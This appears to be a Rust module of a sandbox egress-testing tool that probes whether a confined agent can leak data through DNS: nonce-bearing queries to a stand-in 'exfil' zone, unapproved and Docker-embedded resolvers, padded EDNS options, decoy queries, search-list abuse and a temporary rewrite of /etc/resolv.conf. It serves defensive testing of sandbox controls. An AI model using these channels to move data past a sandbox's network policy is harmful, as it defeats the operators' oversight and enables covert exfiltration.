//! Names as carriers: queries to resolvers nobody approved, and to the one that is.

use std::net::SocketAddr;

use awf_probe_matrix::Outcome;

use super::{Way, report};
use crate::{
    Cx,
    net::{self, TcpTry, UDP},
    sys::refused,
};

/// A query for `NONCE.exfil.awf-probe.test`.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Dns {
    /// Over TCP.
    pub tcp: bool,
    /// Type asked for.
    pub kind: u16,
    /// Port of the resolver.
    pub port: u16,
    /// With the nonce in an EDNS option as well, padded to a kilobyte.
    pub edns: bool,
    /// Behind a query for an allowed name on the same connection.
    pub decoy: bool,
}

impl Dns {
    /// Over UDP, port 53.
    pub const fn udp(kind: u16) -> Self {
        Self { tcp: false, kind, port: 53, edns: false, decoy: false }
    }

    /// Over TCP, port 53.
    pub const fn tcp(kind: u16) -> Self {
        Self { tcp: true, ..Self::udp(kind) }
    }
}

/// A query for one name; its first two bytes are the id.
pub(crate) fn question(name: &str, kind: u16) -> Vec<u8> {
    let mut q = vec![0x1d, 0x0a, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in name.split('.').filter(|l| !l.is_empty()) {
        q.push(label.len() as u8);
        q.extend(label.as_bytes());
    }
    q.push(0);
    q.extend(kind.to_be_bytes());
    q.extend([0, 1]);
    q
}

/// Local option 65001 of an OPT record.
fn with_edns(mut q: Vec<u8>, nonce: &str) -> Vec<u8> {
    q[11] = 1;
    let mut data = nonce.as_bytes().to_vec();
    data.resize(1000, b'.');
    q.extend([0, 0, 41, 0x10, 0, 0, 0, 0, 0]);
    q.extend((data.len() as u16 + 4).to_be_bytes());
    q.extend(65_001_u16.to_be_bytes());
    q.extend((data.len() as u16).to_be_bytes());
    q.extend(data);
    q
}

fn framed(q: &[u8]) -> Vec<u8> {
    let mut framed = (q.len() as u16).to_be_bytes().to_vec();
    framed.extend(q);
    framed
}

fn bytes(query: Dns, name: &str, nonce: &str) -> Vec<u8> {
    let mut q = question(name, query.kind);
    if query.edns {
        q = with_edns(q, nonce);
    }
    if !query.tcp {
        return q;
    }
    let mut all = if query.decoy { framed(&question("allowed.awf-probe.test", 1)) } else { vec![] };
    all.extend(framed(&q));
    all
}

pub(super) fn ask(cx: &mut Cx, way: &mut Way, query: Dns) {
    let to = SocketAddr::new(way.dst, query.port);
    to_resolver(cx, way, query, to, "exfil.awf-probe.test");
}

fn to_resolver(cx: &mut Cx, way: &mut Way, query: Dns, to: SocketAddr, zone: &str) {
    let nonce = way.nonces.next();
    let payload = bytes(query, &format!("{nonce}.{zone}"), &nonce);
    if query.tcp {
        let one = TcpTry::start(to, nonce, payload);
        return report(cx, vec![(String::new(), one)], way.wait);
    }
    // Connected, so that a refusal of a resolver that is not there is heard.
    let mut sent = net::sent(UDP, to, &nonce);
    let fd = match net::socket(to, libc::SOCK_DGRAM, 0) {
        Ok(fd) => fd,
        Err(e) => return cx.sent("", refused(&e, "socket"), sent),
    };
    if let Err(e) = net::connect(&fd, to) {
        return cx.sent("", refused(&e, format!("connect {to}")), sent);
    }
    sent.sport = net::local_port(&fd);
    let outcome = net::three_connected(&fd, &payload, to, way.wait);
    cx.sent("", outcome, sent);
}

/// The resolver Docker runs for each sandbox on a network of its own.
pub(super) fn embedded(cx: &mut Cx, way: &mut Way, query: Dns) {
    to_resolver(cx, way, query, ([127, 0, 0, 11], 53).into(), "exfil.awf-probe.test");
}

pub(super) fn approved(cx: &mut Cx, way: &mut Way) {
    // The one that is to be answered: a slow answer is one.
    way.wait *= 3;
    match net::address(cx.text("approved")) {
        Some(to) => to_resolver(cx, way, Dns::udp(1), SocketAddr::new(to, 53), "exfil.awf-probe.test"),
        None => cx.fact("", Outcome::broken("no approved resolver")),
    }
}

/// What resolv.conf says: the first resolver, the search domains.
fn resolv_conf() -> (Option<std::net::IpAddr>, Vec<String>) {
    let text = std::fs::read_to_string("/etc/resolv.conf").unwrap_or_default();
    let (mut server, mut domains) = (None, vec![]);
    for line in text.lines() {
        let mut words = line.split_whitespace();
        match words.next() {
            Some("nameserver") => server = server.or(words.next().and_then(|w| w.parse().ok())),
            Some("search" | "domain") => domains = words.map(str::to_owned).collect(),
            _ => {}
        }
    }
    (server, domains)
}

/// Keeps the attempt that rewrites the file from the one that reads it: they run at once.
fn locked(file: &std::fs::File, how: i32) {
    // SAFETY: plain system call on an open descriptor. Where it fails the file is read as it stands.
    unsafe { libc::flock(std::os::fd::AsRawFd::as_raw_fd(file), how) };
}

/// A search list is as good a carrier as a name: the agent writes it itself.
pub(super) fn search(cx: &mut Cx, way: &mut Way) {
    let lock = std::fs::File::open("/etc/resolv.conf");
    if let Ok(file) = &lock {
        locked(file, libc::LOCK_SH);
    }
    let (Some(server), domains) = resolv_conf() else {
        return cx.fact("", Outcome::broken("resolv.conf names no resolver"));
    };
    let own = domains.iter().map(|d| d.trim_matches('.')).find(|d| !d.is_empty());
    let zone = own.unwrap_or("exfil.awf-probe.test").to_owned();
    to_resolver(cx, way, Dns::udp(28), SocketAddr::new(server, 53), &zone);
}

/// Writes a resolver of its own into resolv.conf and asks what stands there then. The file is put back.
pub(super) fn rewritten(cx: &mut Cx, way: &mut Way) {
    let path = "/etc/resolv.conf";
    let lock = std::fs::File::open(path);
    if let Ok(file) = &lock {
        locked(file, libc::LOCK_EX);
    }
    let before = std::fs::read(path);
    let wrote = std::fs::write(path, format!("nameserver {}\n", way.dst));
    let server = resolv_conf().0;
    if let Ok(before) = before
        && wrote.is_ok()
    {
        drop(std::fs::write(path, before));
    }
    drop(lock);
    cx.fact("written", crate::sys::attempt(wrote, path));
    // Where the file cannot be written the agent's own resolver needs no file.
    let server = server.filter(|s| *s == way.dst).unwrap_or(way.dst);
    to_resolver(cx, way, Dns::udp(1), SocketAddr::new(server, 53), "exfil.awf-probe.test");
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn queries_are_as_long_as_they_say() {
        let q = question("awfp0123456789ab.exfil.awf-probe.test", 1);
        assert_eq!(q[12], 16);
        let tcp = bytes(Dns { decoy: true, edns: true, ..Dns::tcp(16) }, "awfp0123456789ab.test", "awfp0123456789ab");
        let first = usize::from(u16::from_be_bytes([tcp[0], tcp[1]]));
        let second = usize::from(u16::from_be_bytes([tcp[first + 2], tcp[first + 3]]));
        assert_eq!(tcp.len(), first + second + 4);
    }
}
